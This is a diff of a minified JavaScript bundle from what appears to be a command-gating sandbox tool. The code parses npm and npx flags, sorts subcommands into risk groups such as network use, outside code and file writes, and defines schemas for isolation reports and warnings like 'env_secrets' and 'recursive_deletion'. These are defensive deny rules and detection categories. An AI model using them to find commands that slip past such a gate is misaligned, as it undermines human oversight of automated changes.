-{...o,text:"--"}),rh("npx",[...r,...i],t,e)}const ZO=new Map([["no-install","--no-yes"],["p","--package"]]),KO=new Set("\
-package p userconfig call c shell".split(" ")),WO=new Set("no-install quiet q version v help h".split(" ")),qO={flags:"f\
-irst",dash:"flag",separator:/^--$/,equals:"all",unknown:"never",expand:(t,e)=>{const n=ah(t),s=n==="p"?void 0:Qf.get(n);
-return s!==void 0?{instead:e===void 0?s:[...s,e]}:[{spec:void 0,negated:!1,takes:KO.has(n)?"always":VO(n)?"never":"unles\
-s-dash"}]}};function ah(t){return t.replace(/^-+/,"")}function VO(t){const e=xa.get(t)?.arity;return WO.has(t)||e==="non\
-e"||e==="loose"}function ps(t,e){const{tokens:n,rest:s}=ii(e,tA(t)),r=[],i=[];let o;for(const B of n)B.kind==="flag"&&B.
-word===o&&/\s/.test(B.written)||(o=B.kind==="flag"&&B.consumes?B.next:void 0,B.kind==="flag"&&!YO(t,B,i)?r.push(XO(B)):i.
-push(B.word));const a=t.stops?{operands:[],started:i}:{operands:i,started:[]},c=s&&r.pop();if(s===void 0||c===void 0)return{
-flags:r,...a};const{word:l,value:u}=c,d=u===void 0?s:[{...l,text:u},...s];return{flags:r,...a,rest:{flag:c,words:d}}}function YO({
-readsBehind:t,handsOn:e},{part:n},s){return!!t&&!e&&n.spec===void 0&&s.length>0}function XO(t){const{word:e,attached:n,next:s,
-consumes:r,part:i}=t,{spec:o,negated:a,letter:c,fixed:l=n}=i,u=c??t.written;if(r&&s!==void 0){const m={start:e.span.start,
-end:s.span.end};return{word:{...e,span:m},written:u,flag:o,value:s.text,valueWord:s,off:!1}}const d=s!==void 0&&(!s.text.
-startsWith("-")||s.text==="-"),B=o===void 0&&d?s.text:void 0,f=o?.arity!=="value"&&/^(?:false|0)$/.test(l??""),h=o?.arity!==
-"rest"&&(a||f);return{word:e,written:u,flag:o,value:l??B,off:h}}const QO={none:"never",attached:"never",value:"both",optional:"\
-operand",many:"operands",rest:"rest"};function On(t,e=!1){const n=t===void 0?"never":QO[t.arity];return{spec:t,negated:e,
-takes:e&&n!=="rest"?"never":n}}function eA({flags:t},e,n){const s=c=>{const l=t.get(c);return{...On(l),takes:l?.arity===
-"value"?"always":"never"}},r=t.get(e)??t.get(/^-\d+$/.test(e)?"-#":"");if(r!==void 0)return[(n===void 0?r.arity!=="attac\
-hed":r.arity!=="none")?s(r.name):On(void 0)];const i=e.slice(0,2);if(!e.startsWith("--")&&t.get(i)?.arity==="value")return[
-{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(
-c=>t.get(`-${c}`)?.arity==="none")?o.map(c=>s(`-${c}`)):[On(void 0)]}function tA(t){return{flags:t.stops&&!t.readsBehind?
-"first":"anywhere",dash:"operand",separator:/^--$/,equals:t.strict?"long":"all",unknown:"never",expand:(e,n)=>{if(t.strict)
-return eA(t,e,n);const s=nA(t,e,n),r=t.handsOn&&!t.readsBehind;return t.stops&&r&&s.some(({spec:o})=>o===void 0)?"operan\
-d":s}}}function nA(t,e,n){const s=e.replace(/^-+/,""),r=e.startsWith("--"),i=sA(t,s,r);if(i!==void 0)return[i];if(r||s.length<
-2)return[On(void 0)];const o=[],a=n===void 0?s:`${s}=${n}`;for(let c=0;c<a.length;c+=1){const l=a[c]??"",u=t.flags.get(l);
-if(u===void 0)return[...o,On(void 0)];const d={...On(u),letter:`-${l}`},B=a.slice(c+1);if(B!==""&&(u.arity!=="none"||B.startsWith(
-"="))){const f=u.arity==="rest"?"rest":"never";return[...o,{...d,fixed:B.replace(/^=/,""),takes:f}]}o.push(d)}return o}function sA(t,e,n){
-const s=ch(t,e,n)??(n&&t.completes?rA(t,e):void 0);if(s!==void 0)return On(s);if(!/^no-?[A-Za-z]/.test(e))return;const r=ch(
-t,e.replace(/^no-?/,""),n);return r&&On(r,!0)}function rA({flags:t},e){const n=fs(e),s=new Map;for(const[i,o]of t)i.startsWith(
-n)&&s.set(o.name,o);const[r]=s.values();return s.size===1?r:void 0}function ch(t,e,n){const s=fs(e),r=n?s.lastIndexOf("."):
--1,i=r<0?void 0:t.flags.get(s.slice(r+1));return i===void 0||t.flags.has(s)?fa(t,s):i.kind==="text"?fa(t,s)??i:i}const iA=qe(
-["off","auto","require"]),oA=pt({memory_bytes:at().positive().nullable().describe("Null if unlimited."),processes:at().positive(),
-processes_counted_for:qe(["command","user"]),open_files:at().positive(),file_bytes:at().positive(),written_bytes:at().positive()}),
-aA=pt({name:me(),held:an(),required:an()}),cA=pt({from:me(),reason:me()}),uA=pt({level:qe(aD),description:me(),requested:iA.
-exactOptional(),launcher:me().exactOptional().describe("How the gate is allowed to create namespaces."),starter:qe(["slo\
-t","launcher"]).exactOptional().describe("What prepares the namespaces before a command starts: a supervisor (slot). Rep\
-orts of earlier versions can have a shell for each command (launcher)."),limits:oA.exactOptional().describe("The limits \
-of each command, as the kernel enforces them."),probes:Se(aA).exactOptional().describe("The sandbox self-test: what a pr\
-ogram that is started like the commands could not do."),downgrades:Se(cA).exactOptional().describe("Stronger containment\
- that this machine does not support, and why."),untrusted:Hs(!0).exactOptional().describe("The isolation and all outcome\
-s were reported by a runner that the change controls.")});function uh(t){return vl(Td,t)}function Iz(t){return core._isoDate(
-ZodISODate,t)}function $z(t){return core._isoTime(ZodISOTime,t)}function Rz(t){return core._isoDuration(ZodISODuration,t)}
-const lh=pt({head:me(),tail:me(),bytes:at().nonnegative(),truncated:an()}),lA=pt({created:Se(me()),changed:Se(me()),deleted:Se(
-me()),totals:pt({created:at().nonnegative(),changed:at().nonnegative(),deleted:at().nonnegative()}).exactOptional().describe(
-"The number of paths of each kind, if not all are listed."),complete:Hs(!1).exactOptional().describe("The lists are inco\
-mplete; absent if they contain everything.")}),dA=pt({peak_memory_bytes:at().nonnegative().exactOptional(),cpu_ms:at().nonnegative().
-exactOptional()}),BA=qe(["passed","failed","timed_out","blocked","skipped","crashed","not_runnable","error"]),fA=qe(["me\
-mory_bytes","processes","written_bytes"]),hA=qe(["memory","processes","written","file_size","open_files","network","pack\
-age_manager","home_cache","container_engine","machine_path","rename","read_only","privileges","nested_sandbox","terminal"]),
-pA=pt({cause:hA,counted:Hs(!0).exactOptional().describe("The kernel enforced the limit, or the machine has what is missi\
-ng; otherwise the output of the command only suggests it."),limit:at().nonnegative().exactOptional().describe("The limit\
-, in its own unit."),detail:me().exactOptional().describe("The path that is missing."),key:me().exactOptional().describe(
-"The key of the policy that changes it.")}),mA=pt({status:BA,exit_code:at().nullable(),signal:me().nullable(),started_at:uh(),
-duration_ms:at().nonnegative(),reason:me().exactOptional(),stdout:lh,stderr:lh,side_effects:lA.exactOptional().describe(
-"What the command wrote to its private copy of the checkout, which is discarded."),checkout_modified:Se(me()).exactOptional().
-describe("Files of the checkout that differ from the audited ones after the command."),checkout_changed:Se(me()).exactOptional().
-describe("Files of the checkout that something other than the command changed meanwhile."),left_out:Se(me()).exactOptional().
-describe("Files of the checkout that the failed command mentions and did not see, because they are not in the commit."),
-root:me().exactOptional().describe("The root of the checkout as the command saw it; only if it did not pass and its outp\
-ut names it."),limits_hit:Se(fA).exactOptional().describe("Limits that the kernel enforced on the command; absent if non\
-e is known."),causes:Se(pA).exactOptional().describe("What containment did that explains why the command failed, the mos\
-t certain first."),resources:dA.exactOptional().describe("Usage of the command and all of its descendants, if the machin\
-e reports it."),reused:Hs(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),gA=qe(
-["pass","warn","fail","error","needs_approval"]),Nz=qe(["done","agent","human","undecided"]),Fz=qe(["allow","warn","bloc\
-k"]),Oa=qe(["safe","write","dangerous"]),Lz=qe(oD),Pz=pt({user:me(),at:uh(),pull_request:at().positive().exactOptional().
-describe("The pull request of the review; several can be in one merge group.")}),jz=qe(["pull_request","merge_group","pu\
-sh","workflow_dispatch","range","worktree","index"]),CA=qe(["darwin","linux","win32"]),yA=256,dh=at().min(1).max(yA),wA=pt(
-{index:dh,of:dh}),Mz=wA.extend({genes:at().nonnegative().describe("Number of genes in the shard."),verdict:gA.describe("\
-The verdict about these genes alone.")}),Gz=pt({contained:an().describe("False if this machine has no namespaces: the li\
-nes could reach all that the gate can."),isolation:uA,lines:Se(pt({command:me(),outcome:mA})),written:Se(me()).describe(
-"Files and directories that are new in the checkout, sorted; a limited number.")}),bA=["network_touching","archive_extra\
-ction_overwrite","archive_creation_overwrite","env_secrets","recursive_deletion","broad_permission_target","writes_files"],
-Bh=qe(bA),ui=me().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the name of a program"),Aa=me().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,
-"expected a relative path without .."),Sa=me().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Ta=Se(Sa).readonly(),
-_A=Yt({flag:me().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its\
- dashes."),value:qe(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),
-Hz=vn(me().min(1),Se(_A).min(1)),fh={match:Se(me()).min(1).describe("Commands that the family must accept."),not_match:Se(
-me()).min(1).describe("Commands that the family must reject.")},Ia=["outside-code","uses-network","writes-files","tool-w\
-rites","only-prints","checks-syntax-only","never-ends","skips-tests","weakens","reads-stdin"],$a=qe(Ia);function Ra(t){return Ia.
-includes(t)}const EA=Object.keys(Bs),hh="names without dashes, separated by blanks",Na={flags:Mo(qe([...EA,...Ia]),me()).
-optional().describe(`Flags by the kind of their values, or by why they are refused: ${hh}. A comma separates spellings, \
-a mark behind a name is its value: \`=\` required, \`?\` optional, \`?=\` attached, \`*\` several, \`+\` all following words, \`=a|\
-b\` one of these; \`~\` stands for any end.`),operands:me().refine(t=>Ba(t)!==void 0,{error:"expected kinds such as path\
-; a kind with ? * or ... only at the end"}).optional().describe("Kinds in order; the last may end with `?` (optional), `\
-...` (one or more) or `*` (any number). Default: `path*`.")},Fa={...Na,risk:Oa.optional().describe("Default: safe."),warnings:Se(
-Bh).readonly().optional(),network_touching:an().optional()},ph={...Fa,leading_flags:Ta.optional().describe("Flags before\
- the operands; all others are behind them."),first_operand_by:Ta.optional().describe("With one of these flags, there is \
-no first operand."),last_operand_by:Ta.optional().describe("With one of these flags, the last operand may be absent."),default_operand:me().
-optional().describe("The path that the program uses by default."),flag_warnings:vn(me(),Bh).optional(),dangerous_targets:Se(
-me()).readonly().optional(),forbidden_prefixes:Se(me()).readonly().optional(),forms:vn(me(),Yt(Fa)).refine(t=>Object.keys(
-t).every(e=>df(e)!==void 0),{error:"expected words and placeholders such as {path}; {source...} only at the end"}).optional().
-describe("The only accepted words after the program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with wh\
-at differs from the program."),subcommands:vn(me(),Yt(Fa)).optional().describe("The only accepted first words, with what\
- differs from the program.")},kA=Yt({...ph,only:qe(["curated","workspace"]).optional().describe("The only profile that a\
-ccepts the program. Default: both."),curated:Yt(ph).optional().describe("What replaces the keys above in the `curated` p\
-rofile."),maturity:qe(["structured","direct_only","experimental_only","blocked"]).optional(),platforms:Se(CA).optional(),
-...fh}),vA=["file","package","program","node","command","script","own-script","tool","script-or-tool","script-tool-or-fi\
-le","command-texts","npm-scripts"],La={...Na,operands:Na.operands.refine(t=>t===void 0||t.endsWith("*"),{error:"expected\
- a last kind with *: the default profile does not count operands"}),refused:Mo($a,me()).optional().describe(`First opera\
-nds by why they are refused: ${hh}; \`~\` stands for any end.`),starts:qe(vA).optional().describe("What the first operan\
-d is, if the program runs it."),unless:Mo($a,me()).optional().describe("Refused for a reason, unless one of these flags \
-is set."),alone:$a.optional().describe("What it does without an operand or subcommand."),any_package:an().optional(),skips:at().
-nonnegative().optional(),variables:Se(me()).optional()},DA=Yt({...La,behind:Yt({flags:La.flags}).optional().describe("Th\
-e flags that may stand behind `--`; default: operands.")}),xA=Yt({...La,programs:Se(ui).optional().describe("The words t\
-hat start the program; default: the name of the family."),risk:Oa.default("safe"),completes:an().default(!1).describe("F\
-lags may be written by their beginning, as for getopt and argparse."),subcommands:vn(me().regex(/^\S+(?: \S+)*$/),DA).default(
-{}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:me().optional().
-describe("Extensions of the files that it may run, besides files without one."),dependency_tools:Se(ui).default([]),started_programs:Se(
-ui).default([]),directory_flags:Se(Sa).default([]),selecting_flags:Se(Sa).default([]),settings:Se(Aa).default([]).describe(
+    color no-color foreground-scripts if-present include-workspace-root json loglevel= long offline
+    parseable prefer-offline prefer-online progress no-progress unicode no-unicode update-notifier
+    no-update-notifier workspace= workspaces no-yes
+  `,path:"prefix=","only-prints":"usage version versions","skips-tests":"ignore-scripts","outside-code":"call= global gl\
+obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),NO=new Set(["--inc\
+lude-workspace-root","--prefix","--workspace","--workspaces"]),RO=new Set(["--bail","--coverage","--runInBand"]),FO=`
+  -?=usage -C=prefix -H=usage -c=call -d=loglevel:info -dd=loglevel:verbose -ddd=loglevel:silly
+  -g=global -h=usage --help=usage -iwr=include-workspace-root -l=long --no=no-yes -p=parseable
+  -q=loglevel:warn --quiet=loglevel:warn -s=loglevel:silent --silent=loglevel:silent -v=version
+  --verbose=loglevel:verbose -w=workspace -ws=workspaces -y=yes
+`,Qf=new Map(FO.trim().split(/\s+/).map(t=>t.split(/[=:]/)).map(([t="",e,n])=>[t,`--${e}${n===void 0?"":`=${n}`}`])),eh=Wr(
+{"runs-script":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll\
+ prefix query root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit ins\
+tall-test,it link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprec\
+ate dist-tag login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,\
+info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function Jn(t,e){
+const{tokens:n,rest:s}=Wf(e,GO(t)),r=[],i=[];let o;for(const B of n)B.kind==="flag"&&B.word===o&&/\s/.test(B.written)||(o=
+B.kind==="flag"&&B.consumes?B.next:void 0,B.kind==="flag"&&!LO(t,B,i)?r.push(PO(B)):i.push(B.word));const a=t.stops?{operands:[],
+started:i}:{operands:i,started:[]},c=s&&r.pop();if(s===void 0||c===void 0)return{flags:r,...a};const{word:l,value:u}=c,d=u===
+void 0?s:[{...l,text:u},...s];return{flags:r,...a,rest:{flag:c,words:d}}}function LO({readsBehind:t,handsOn:e},{part:n},s){
+return!!t&&!e&&n.spec===void 0&&s.length>0}function PO(t){const{word:e,attached:n,next:s,consumes:r,part:i}=t,{spec:o,negated:a,
+letter:c,fixed:l=n}=i,u=c??t.written;if(r&&s!==void 0){const m={start:e.span.start,end:s.span.end};return{word:{...e,span:m},
+written:u,flag:o,value:s.text,valueWord:s,off:!1}}const d=s!==void 0&&(!s.text.startsWith("-")||s.text==="-"),B=o===void 0&&
+d?s.text:void 0,f=o?.arity!=="value"&&/^(?:false|0)$/.test(l??""),h=o?.arity!=="rest"&&(a||f);return{word:e,written:u,flag:o,
+value:l??B,off:h}}const jO={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function On(t,e=!1){
+const n=t===void 0?"never":jO[t.arity];return{spec:t,negated:e,takes:e&&n!=="rest"?"never":n}}function MO({flags:t},e,n){
+const s=c=>{const l=t.get(c);return{...On(l),takes:l?.arity==="value"?"always":"never"}},r=t.get(e)??t.get(/^-\d+$/.test(
+e)?"-#":"");if(r!==void 0)return[(n===void 0?r.arity!=="attached":r.arity!=="none")?s(r.name):On(void 0)];const i=e.slice(
+0,2);if(!e.startsWith("--")&&t.get(i)?.arity==="value")return[{...s(i),fixed:e.slice(2),takes:"never"}];const o=/^-[A-Za-z]{2,}$/.
+test(e)?[...e.slice(1)]:[];return o.length>0&&o.every(c=>t.get(`-${c}`)?.arity==="none")?o.map(c=>s(`-${c}`)):[On(void 0)]}
+function GO(t){return{flags:t.stops&&!t.readsBehind?"first":"anywhere",dash:"operand",separator:/^--$/,equals:t.strict?"\
+long":"all",unknown:"never",expand:(e,n)=>{if(t.strict)return MO(t,e,n);const s=HO(t,e,n),r=t.handsOn&&!t.readsBehind;return t.
+stops&&r&&s.some(({spec:o})=>o===void 0)?"operand":s}}}function HO(t,e,n){const s=e.replace(/^-+/,""),r=e.startsWith("--"),
+i=zO(t,s,r);if(i!==void 0)return[i];if(r||s.length<2)return[On(void 0)];const o=[],a=n===void 0?s:`${s}=${n}`;for(let c=0;c<
+a.length;c+=1){const l=a[c]??"",u=t.flags.get(l);if(u===void 0)return[...o,On(void 0)];const d={...On(u),letter:`-${l}`},
+B=a.slice(c+1);if(B!==""&&(u.arity!=="none"||B.startsWith("="))){const f=u.arity==="rest"?"rest":"never";return[...o,{...d,
+fixed:B.replace(/^=/,""),takes:f}]}o.push(d)}return o}function zO(t,e,n){const s=th(t,e,n)??(n&&t.completes?UO(t,e):void 0);
+if(s!==void 0)return On(s);if(!/^no-?[A-Za-z]/.test(e))return;const r=th(t,e.replace(/^no-?/,""),n);return r&&On(r,!0)}function UO({
+flags:t},e){const n=fs(e),s=new Map;for(const[i,o]of t)i.startsWith(n)&&s.set(o.name,o);const[r]=s.values();return s.size===
+1?r:void 0}function th(t,e,n){const s=fs(e),r=n?s.lastIndexOf("."):-1,i=r<0?void 0:t.flags.get(s.slice(r+1));return i===
+void 0||t.flags.has(s)?fa(t,s):i.kind==="text"?fa(t,s)??i:i}const JO=qe(["off","auto","require"]),ZO=pt({memory_bytes:at().
+positive().nullable().describe("Null if unlimited."),processes:at().positive(),processes_counted_for:qe(["command","user"]),
+open_files:at().positive(),file_bytes:at().positive(),written_bytes:at().positive()}),KO=pt({name:me(),held:an(),required:an()}),
+WO=pt({from:me(),reason:me()}),qO=pt({level:qe(iD),description:me(),requested:JO.exactOptional(),launcher:me().exactOptional().
+describe("How the gate is allowed to create namespaces."),starter:qe(["slot","launcher"]).exactOptional().describe("What\
+ prepares the namespaces before a command starts: a supervisor (slot). Reports of earlier versions can have a shell for \
+each command (launcher)."),limits:ZO.exactOptional().describe("The limits of each command, as the kernel enforces them."),
+probes:Se(KO).exactOptional().describe("The sandbox self-test: what a program that is started like the commands could no\
+t do."),downgrades:Se(WO).exactOptional().describe("Stronger containment that this machine does not support, and why."),
+untrusted:Gs(!0).exactOptional().describe("The isolation and all outcomes were reported by a runner that the change cont\
+rols.")});function nh(t){return kl(Sd,t)}function Ez(t){return core._isoDate(ZodISODate,t)}function kz(t){return core._isoTime(
+ZodISOTime,t)}function vz(t){return core._isoDuration(ZodISODuration,t)}const sh=pt({head:me(),tail:me(),bytes:at().nonnegative(),
+truncated:an()}),VO=pt({created:Se(me()),changed:Se(me()),deleted:Se(me()),totals:pt({created:at().nonnegative(),changed:at().
+nonnegative(),deleted:at().nonnegative()}).exactOptional().describe("The number of paths of each kind, if not all are li\
+sted."),complete:Gs(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),YO=pt(
+{peak_memory_bytes:at().nonnegative().exactOptional(),cpu_ms:at().nonnegative().exactOptional()}),XO=qe(["passed","faile\
+d","timed_out","blocked","skipped","crashed","not_runnable","error"]),QO=qe(["memory_bytes","processes","written_bytes"]),
+eA=qe(["memory","processes","written","file_size","open_files","network","package_manager","home_cache","container_engin\
+e","machine_path","rename","read_only","privileges","nested_sandbox","terminal"]),tA=pt({cause:eA,counted:Gs(!0).exactOptional().
+describe("The kernel enforced the limit, or the machine has what is missing; otherwise the output of the command only su\
+ggests it."),limit:at().nonnegative().exactOptional().describe("The limit, in its own unit."),detail:me().exactOptional().
+describe("The path that is missing."),key:me().exactOptional().describe("The key of the policy that changes it.")}),nA=pt(
+{status:XO,exit_code:at().nullable(),signal:me().nullable(),started_at:nh(),duration_ms:at().nonnegative(),reason:me().exactOptional(),
+stdout:sh,stderr:sh,side_effects:VO.exactOptional().describe("What the command wrote to its private copy of the checkout\
+, which is discarded."),checkout_modified:Se(me()).exactOptional().describe("Files of the checkout that differ from the \
+audited ones after the command."),checkout_changed:Se(me()).exactOptional().describe("Files of the checkout that somethi\
+ng other than the command changed meanwhile."),left_out:Se(me()).exactOptional().describe("Files of the checkout that th\
+e failed command mentions and did not see, because they are not in the commit."),root:me().exactOptional().describe("The\
+ root of the checkout as the command saw it; only if it did not pass and its output names it."),limits_hit:Se(QO).exactOptional().
+describe("Limits that the kernel enforced on the command; absent if none is known."),causes:Se(tA).exactOptional().describe(
+"What containment did that explains why the command failed, the most certain first."),resources:YO.exactOptional().describe(
+"Usage of the command and all of its descendants, if the machine reports it."),reused:Gs(!0).exactOptional().describe("T\
+he result of the same Plan in another gene; it ran once.")}),sA=qe(["pass","warn","fail","error","needs_approval"]),Dz=qe(
+["done","agent","human","undecided"]),xz=qe(["allow","warn","block"]),xa=qe(["safe","write","dangerous"]),Oz=qe(rD),Az=pt(
+{user:me(),at:nh(),pull_request:at().positive().exactOptional().describe("The pull request of the review; several can be\
+ in one merge group.")}),Sz=qe(["pull_request","merge_group","push","workflow_dispatch","range","worktree","index"]),rA=qe(
+["darwin","linux","win32"]),iA=256,rh=at().min(1).max(iA),oA=pt({index:rh,of:rh}),Tz=oA.extend({genes:at().nonnegative().
+describe("Number of genes in the shard."),verdict:sA.describe("The verdict about these genes alone.")}),Iz=pt({contained:an().
+describe("False if this machine has no namespaces: the lines could reach all that the gate can."),isolation:qO,lines:Se(
+pt({command:me(),outcome:nA})),written:Se(me()).describe("Files and directories that are new in the checkout, sorted; a \
+limited number.")}),aA=["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","re\
+cursive_deletion","broad_permission_target","writes_files"],ih=qe(aA),ci=me().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected th\
+e name of a program"),Oa=me().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative pa\
+th without .."),Aa=me().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Sa=Se(Aa).readonly(),cA=Yt({flag:me().regex(
+/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its dashes."),value:qe(["n\
+one","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),$z=vn(me().min(1),Se(cA).
+min(1)),oh={match:Se(me()).min(1).describe("Commands that the family must accept."),not_match:Se(me()).min(1).describe("\
+Commands that the family must reject.")},Ta=["outside-code","uses-network","writes-files","tool-writes","only-prints","c\
+hecks-syntax-only","never-ends","skips-tests","weakens","reads-stdin"],Ia=qe(Ta);function ui(t){return Ta.includes(t)}const uA=Object.
+keys(Bs),ah="names without dashes, separated by blanks",$a={flags:Mo(qe([...uA,...Ta]),me()).optional().describe(`Flags \
+by the kind of their values, or by why they are refused: ${ah}. A comma separates spellings, a mark behind a name is its\
+ value: \`=\` required, \`?\` optional, \`?=\` attached, \`*\` several, \`+\` all following words, \`=a|b\` one of these; \`~\` stands\
+ for any end.`),operands:me().refine(t=>Ba(t)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only \
+at the end"}).optional().describe("Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any\
+ number). Default: `path*`.")},Na={...$a,risk:xa.optional().describe("Default: safe."),warnings:Se(ih).readonly().optional(),
+network_touching:an().optional()},ch={...Na,leading_flags:Sa.optional().describe("Flags before the operands; all others \
+are behind them."),first_operand_by:Sa.optional().describe("With one of these flags, there is no first operand."),last_operand_by:Sa.
+optional().describe("With one of these flags, the last operand may be absent."),default_operand:me().optional().describe(
+"The path that the program uses by default."),flag_warnings:vn(me(),ih).optional(),dangerous_targets:Se(me()).readonly().
+optional(),forbidden_prefixes:Se(me()).readonly().optional(),forms:vn(me(),Yt(Na)).refine(t=>Object.keys(t).every(e=>lf(
+e)!==void 0),{error:"expected words and placeholders such as {path}; {source...} only at the end"}).optional().describe(
+"The only accepted words after the program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with what differ\
+s from the program."),subcommands:vn(me(),Yt(Na)).optional().describe("The only accepted first words, with what differs \
+from the program.")},lA=Yt({...ch,only:qe(["curated","workspace"]).optional().describe("The only profile that accepts th\
+e program. Default: both."),curated:Yt(ch).optional().describe("What replaces the keys above in the `curated` profile."),
+maturity:qe(["structured","direct_only","experimental_only","blocked"]).optional(),platforms:Se(rA).optional(),...oh}),dA=[
+"file","package","program","node","command","script","own-script","tool","script-or-tool","script-tool-or-file","command\
+-texts","npm-scripts"],Ra={...$a,operands:$a.operands.refine(t=>t===void 0||t.endsWith("*"),{error:"expected a last kind\
+ with *: the default profile does not count operands"}),refused:Mo(Ia,me()).optional().describe(`First operands by why t\
+hey are refused: ${ah}; \`~\` stands for any end.`),starts:qe(dA).optional().describe("What the first operand is, if the\
+ program runs it."),unless:Mo(Ia,me()).optional().describe("Refused for a reason, unless one of these flags is set."),alone:Ia.
+optional().describe("What it does without an operand or subcommand."),any_package:an().optional(),skips:at().nonnegative().
+optional(),variables:Se(me()).optional()},BA=Yt({...Ra,behind:Yt({flags:Ra.flags}).optional().describe("The flags that m\
+ay stand behind `--`; default: operands.")}),fA=Yt({...Ra,programs:Se(ci).optional().describe("The words that start the \
+program; default: the name of the family."),risk:xa.default("safe"),completes:an().default(!1).describe("Flags may be wr\
+itten by their beginning, as for getopt and argparse."),subcommands:vn(me().regex(/^\S+(?: \S+)*$/),BA).default({}).describe(
+"By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:me().optional().describe("\
+Extensions of the files that it may run, besides files without one."),dependency_tools:Se(ci).default([]),started_programs:Se(
+ci).default([]),directory_flags:Se(Aa).default([]),selecting_flags:Se(Aa).default([]),settings:Se(Oa).default([]).describe(
 "Files and folders, from the working directory up, that can give a command another meaning: a change must not edit them."),
-build_files:Se(Aa).default([]).describe("Files of the commit that decide what the program does; `*` matches in a name."),
-dependencies:Se(Yt({path:Aa,at:qe(["root","anywhere","home"]),variable:me().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default(
+build_files:Se(Oa).default([]).describe("Files of the commit that decide what the program does; `*` matches in a name."),
+dependencies:Se(Yt({path:Oa,at:qe(["root","anywhere","home"]),variable:me().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default(
 []).describe("Where its dependencies are, outside of the commit."),environment:vn(me().regex(/^[A-Za-z_]\w*$/),me()).default(
-{}).describe("Variables that are set for the program."),...fh}),OA=Yt({name:ui,category:me().min(1).optional().describe(
+{}).describe("Variables that are set for the program."),...oh}),hA=Yt({name:ci,category:me().min(1).optional().describe(
 "The pack, for `disabled_packs`; default: the pack of the built-in family of the same name, or `other`."),notes:me().optional(),
-evolver:xA.optional().describe("For the default profile, which accepts the program if `programs` names it."),sandbox:kA.
-optional().describe("For the `curated` and `workspace` profiles. Default: neither accepts the program.")}),Pa={problems:[]};
-function li(t,e,n){const{word:s,flag:r,value:i="",written:o,off:a}=n;if(r===void 0)return jA(t,e,n);const c=h=>ja(h,t,n),
-{choices:l}=r;if(l?.every(h=>!AA(h,i.replace(/\s+/g,""))))return{problems:[c("unknown-flag")]};if(a)return Pa;if(r.kind===
-"node")return Ch(s,PA(t,i));const{rule:u,...d}=Ra(r.kind)?{rule:r.kind}:SA(t,n,e.stops===!0),B=Jn(o)||ai(o),f=u??(B?"out\
-side-code":void 0);return{...i===""?{}:d,problems:f?[c(f)]:[]}}function AA(t,e){const[n="",s]=t.split("~");if(s===void 0)
-return e===t;const r=e.slice(n.length,e.length-s.length);return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${n}${r}${s}`}function ja(t,e,{
-word:{text:n,span:s},written:r,value:i=""}){const o=n===r&&i!==""?`${r} ${i}`:n;return zn(t,e,{name:r,written:o,span:s,value:i})}
-function SA(t,e,n){const{word:s,flag:r,written:i,value:o=""}=e,{span:a}=s,c=r?.kind??"text";switch(c){case"choice":return{};case"\
-tests":return{files:[{as:"tests",path:o,span:a}]};case"path":{const l=xe(o)===void 0?"outside-code":void 0,u=Un(o)?[]:[{
-as:"place",path:o,span:a}];return{rule:l,files:u,root:o}}case"config":return Un(o)?{rule:"outside-code"}:/^[\w.-]+ *=/.test(
-o)?{}:{files:[{as:"config",path:o,span:a}]};case"output":{const l=o.slice(o.lastIndexOf("=")+1);return/^(?:-?|stdout|stderr|\/dev\/null)$/.
-test(l)?{}:Un(l)?{rule:"writes-files"}:{rule:"tool-writes",files:[{as:"place",path:l,span:a}]}}case"code":case"preload":{
-const l=c==="code"?mh(o,n):RA(o,n),u=ja("tool-runs-file",t,e);return{rule:l,files:NA(o).map(d=>FA(d,a,u,c))}}case"module":{
-const l=o.split(":").filter(f=>/^\w+(?:\.\w+)*$/.test(f)),u=new Set(l.flatMap(f=>[f,f.replace(/\.\w+$/,"")]).flatMap(Ma)),
-d=ja("tool-runs-file",t,e);return{rule:Jn(o)||/[\\/]/.test(o)?"outside-code":void 0,files:[...u].map(f=>({as:"module",path:f,
-span:a,ifFile:d}))}}default:{const l=ai(o)&&!$A(i,o),u=!Ra(c)&&Bs[c](o)!==void 0;return{rule:Jn(o)||l||TA.test(o)||u?"ou\
-tside-code":void 0}}}}const TA=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,IA=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;
-function $A(t,e){return IA.test(t)||t==="-t"&&!e.includes(":")}function mh(t,e){if(Un(t)||/[\s(){};]/.test(t))return"out\
